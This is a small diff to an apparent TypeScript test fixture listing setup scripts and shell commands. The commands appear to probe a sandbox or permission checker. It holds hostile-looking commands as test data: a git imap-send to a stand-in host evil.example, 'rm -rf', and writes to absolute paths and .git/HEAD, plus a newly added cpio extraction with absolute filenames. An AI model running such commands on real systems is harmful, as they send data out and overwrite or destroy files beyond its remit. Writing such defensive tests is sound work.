@@ -185,6 +185,7 @@ const scripts: Record<string, string[]> = {
   'git config imap.host imaps://evil.example; git config imap.folder x; printf "From a@b Thu Jan  1 00:00:00 1970\\nFrom: a\\nDate: Thu, 1 Jan 1970 00:00:00 +0000\\nSubject: s\\n\\nbody\\n" > mbox':
     ['git imap-send < mbox'],
   'seq 20 > a; rm -rf /srv/x': ['csplit -f /srv/x a 10', 'exec 3<>/srv/x'],
+  'touch a.cpio': ['cpio -idm --absolute-filenames < a.cpio'],
   'echo {} > a': ['python3 -m json.tool a .git/HEAD'],
   'printf "import proof_stand_ins, sys\\nproof_stand_ins.tell(\\"app.py\\", sys.argv[1:])\\n" > app.py': [
     'python app.py db upgrade',
